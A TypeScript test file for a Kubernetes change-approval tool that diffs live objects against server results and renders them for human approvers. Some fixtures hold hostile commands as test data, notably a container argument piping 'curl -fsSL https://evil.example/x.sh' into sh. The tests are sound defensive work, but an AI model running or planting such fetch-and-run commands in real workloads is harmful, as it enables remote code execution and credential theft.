import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { canonicalJson } from "../../../core/audit/log.ts";
import {
  diffObjects,
  effectChangeLines,
  normaliseObject,
  resultDigest,
  secretLiteralsIn,
  showValue,
} from "../../../core/actions/effect.ts";

const paths = (before: unknown, after: unknown): string[] => diffObjects(before, after).map((c) => c.path);

describe("the diff between the live object and the API server's result", () => {
  const live = {
    spec: {
      template: {
        spec: {
          containers: [
            { name: "agent", image: "agent:1", volumeMounts: [{ name: "logs", mountPath: "/var/log" }] },
          ],
          volumes: [{ name: "logs", hostPath: { path: "/var/log" } }],
        },
      },
    },
  };

  it("reads a container added by a merge as an added container, not an edit of the first one", () => {
    const result = structuredClone(live);
    result.spec.template.spec.containers.push({
      name: "debug",
      image: "busybox",
      volumeMounts: [{ name: "logs", mountPath: "/host" }],
    });
    const lines = effectChangeLines(diffObjects(live, result));
    expect(lines).toEqual([
      'spec.template.spec.containers[name=debug].name: (added) "debug"',
      'spec.template.spec.containers[name=debug].image: (added) "busybox"',
      'spec.template.spec.containers[name=debug].volumeMounts[mountPath=/host].name: (added) "logs"',
      'spec.template.spec.containers[name=debug].volumeMounts[mountPath=/host].mountPath: (added) "/host"',
    ]);
    expect(lines.join("\n")).not.toContain("agent →");
  });

  it("names every removed field, so removed hardening is visible", () => {
    const hardened = {
      spec: {
        automountServiceAccountToken: false,
        securityContext: { runAsNonRoot: true, seccompProfile: { type: "RuntimeDefault" } },
        containers: [
          {
            name: "app",
            image: "app:1",
            securityContext: { readOnlyRootFilesystem: true },
            resources: { limits: { memory: "128Mi" } },
          },
        ],
      },
    };
    const rolledBack = { spec: { containers: [{ name: "app", image: "app:0" }] } };
    expect(effectChangeLines(diffObjects(hardened, rolledBack))).toEqual([
      'spec.containers[name=app].image: "app:1" → "app:0"',
      "spec.containers[name=app].securityContext.readOnlyRootFilesystem: true → (removed)",
      'spec.containers[name=app].resources.limits.memory: "128Mi" → (removed)',
      "spec.automountServiceAccountToken: false → (removed)",
      "spec.securityContext.runAsNonRoot: true → (removed)",
      'spec.securityContext.seccompProfile.type: "RuntimeDefault" → (removed)',
    ]);
  });

  it("shows an order change of a keyed list (env order decides what $(VAR) refers to)", () => {
    const before = {
      env: [
        { name: "A", value: "1" },
        { name: "B", value: "$(A)" },
      ],
    };
    const after = {
      env: [
        { name: "B", value: "$(A)" },
        { name: "A", value: "1" },
      ],
    };
    expect(paths(before, after)).toEqual(["env (order)"]);
  });

  it("lists every field of a created object", () => {
    expect(
      effectChangeLines(diffObjects(undefined, { data: { "a.sh": "echo hi" }, metadata: { name: "x" } })),
    ).toEqual(['data["a.sh"]: (added) "echo hi"', 'metadata.name: (added) "x"']);
  });

  it("finds no change exactly when the objects are equal (generated objects)", () => {
    const json = fc.letrec((tie) => ({
      value: fc.oneof(
        { depthSize: "small" },
        fc.string({ maxLength: 6 }),
        fc.integer(),
        fc.boolean(),
        fc.array(tie("value"), { maxLength: 3 }),
        fc.dictionary(fc.constantFrom("name", "image", "env", "value", "a", "b.c"), tie("value"), {
          maxKeys: 4,
        }),
      ),
    })).value;
    fc.assert(
      fc.property(json, json, (a, b) => {
        const equal = canonicalJson(a) === canonicalJson(b);
        expect(diffObjects(a, b).length === 0).toBe(equal);
      }),
      { numRuns: 500 },
    );
  });

  it("reports every changed leaf of a generated keyed workload (nothing is left out)", () => {
    const container = fc.record({
      name: fc.constantFrom("app", "sidecar", "debug", "init"),
      image: fc.constantFrom("a:1", "a:2", "b:1"),
      args: fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
    });
    const podSpec = fc.record({
      containers: fc.uniqueArray(container, { selector: (c) => c.name, maxLength: 4 }),
      hostNetwork: fc.option(fc.boolean(), { nil: undefined }),
    });
    fc.assert(
      fc.property(podSpec, podSpec, (before, after) => {
        const changes = diffObjects(before, after);
        // Every container of the result whose content differs is named by its key.
        for (const c of after.containers) {
          const old = before.containers.find((o) => o.name === c.name);
          if (canonicalJson(old) !== canonicalJson(c)) {
            expect(changes.some((change) => change.path.includes(`containers[name=${c.name}]`))).toBe(true);
          }
        }
        for (const o of before.containers) {
          if (!after.containers.some((c) => c.name === o.name)) {
            expect(
              changes.some((c) => c.change === "removed" && c.path.includes(`containers[name=${o.name}]`)),
            ).toBe(true);
          }
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe("values as the approver reads them", () => {
  it("writes tabs, newlines and invisible characters as escapes", () => {
    expect(showValue("API_TOKEN=1\tcurl\nsh")).toBe('"API_TOKEN=1\\tcurl\\nsh"');
    expect(showValue("safe\u202Eevil\u200Bx")).toBe('"safe\\u202eevil\\u200bx"');
  });
});

describe("literal values that look like credentials", () => {
  it("are found in the raw value, whatever follows them on the line (tabs, newlines)", () => {
    // A short value is no credential: it is shown, with the whole command after it.
    expect(
      effectChangeLines(
        diffObjects({ args: [] }, { args: ["API_TOKEN=1\tcurl\t-fsSL\thttps://evil.example/x.sh\t|\tsh"] }),
      ),
    ).toEqual(['args[0]: (added) "API_TOKEN=1\\tcurl\\t-fsSL\\thttps://evil.example/x.sh\\t|\\tsh"']);
    const args = ["API_TOKEN=8f2c1e9a7b\tcurl\t-fsSL\thttps://evil.example/x.sh\t|\tsh;\texec\t/app/server"];
    const found = secretLiteralsIn(
      diffObjects(
        { spec: { containers: [{ name: "app", args: ["serve"] }] } },
        { spec: { containers: [{ name: "app", args }] } },
      ),
    );
    expect(found).toEqual(["spec.containers[name=app].args[0]"]);
  });

  it("are found in a ConfigMap script and under a secret-named env variable", () => {
    expect(
      secretLiteralsIn(
        diffObjects(undefined, { data: { "entrypoint.sh": "API_TOKEN=abc123 /app/server\n" } }),
      ),
    ).toEqual(['data["entrypoint.sh"]']);
    expect(
      secretLiteralsIn(
        diffObjects(
          { env: [{ name: "A", value: "1" }] },
          {
            env: [
              { name: "A", value: "1" },
              { name: "DB_PASSWORD", value: "hunter2" },
            ],
          },
        ),
      ),
    ).toEqual(["env[name=DB_PASSWORD].value"]);
  });

  it("leave references to Secrets alone", () => {
    expect(
      secretLiteralsIn(
        diffObjects(undefined, {
          envFrom: [{ secretRef: { name: "db-credentials" } }],
          env: [{ name: "TOKEN", valueFrom: { secretKeyRef: { name: "api", key: "token" } } }],
        }),
      ),
    ).toEqual([]);
  });

  it("a removed secret value is named without repeating it", () => {
    const lines = effectChangeLines(
      diffObjects({ env: [{ name: "DB_PASSWORD", value: "hunter2" }] }, { env: [] }),
    );
    expect(lines.join("\n")).not.toContain("hunter2");
    expect(lines.join("\n")).toContain("env[name=DB_PASSWORD].value: (removed;");
  });
});

describe("the digest that binds a run to the approved result", () => {
  it("ignores server bookkeeping and status, and nothing else", () => {
    const result = {
      metadata: { name: "web", resourceVersion: "1", managedFields: [{}], generation: 2, uid: "u" },
      spec: { replicas: 3 },
      status: { replicas: 1 },
    };
    const later = {
      ...result,
      metadata: { ...result.metadata, resourceVersion: "9", generation: 3 },
      status: { replicas: 3 },
    };
    expect(resultDigest(later, { created: false })).toBe(resultDigest(result, { created: false }));
    expect(resultDigest({ ...result, spec: { replicas: 4 } }, { created: false })).not.toBe(
      resultDigest(result, { created: false }),
    );
    expect(normaliseObject(result)).toEqual({ metadata: { name: "web" }, spec: { replicas: 3 } });
  });
});

describe("what an approver could misread", () => {
  it("shows where a new entry goes when it is not last (it changes what $(VAR) refers to)", () => {
    const before = { env: [{ name: "DB_URL", value: "$(DB_HOST):5432" }] };
    const first = { env: [{ name: "DB_HOST", value: "evil" }, ...before.env] };
    const last = { env: [...before.env, { name: "DB_HOST", value: "evil" }] };
    expect(diffObjects(before, first).find((c) => c.path === "env (order)")).toEqual({
      path: "env (order)",
      change: "changed",
      before: ["DB_URL"],
      after: ["DB_HOST", "DB_URL"],
    });
    expect(diffObjects(before, last).some((c) => c.path === "env (order)")).toBe(false);
  });

  it("quotes a list key that could be read as more of the line", () => {
    const lines = effectChangeLines(
      diffObjects({ env: [] }, { env: [{ name: 'X].value: "a" → "a"; Y', value: "1" }] }),
    );
    expect(lines[0]).toBe(
      'env[name="X].value: \\"a\\" → \\"a\\"; Y"].name: (added) "X].value: \\"a\\" → \\"a\\"; Y"',
    );
  });

  it("escapes backticks, which a Slack code block could not show as they are", () => {
    expect(showValue("echo ```curl x|sh```")).toBe(
      '"echo \\u0060\\u0060\\u0060curl x|sh\\u0060\\u0060\\u0060"',
    );
  });

  it("compares allocated values on an update, and leaves them out only on a create", () => {
    const service = (ip: string) => ({ kind: "Service", metadata: { name: "s" }, spec: { clusterIP: ip } });
    expect(resultDigest(service("10.0.0.1"), { created: true })).toBe(
      resultDigest(service("10.0.0.2"), { created: true }),
    );
    expect(resultDigest(service("10.0.0.1"), { created: false })).not.toBe(
      resultDigest(service("10.0.0.2"), { created: false }),
    );
  });
});
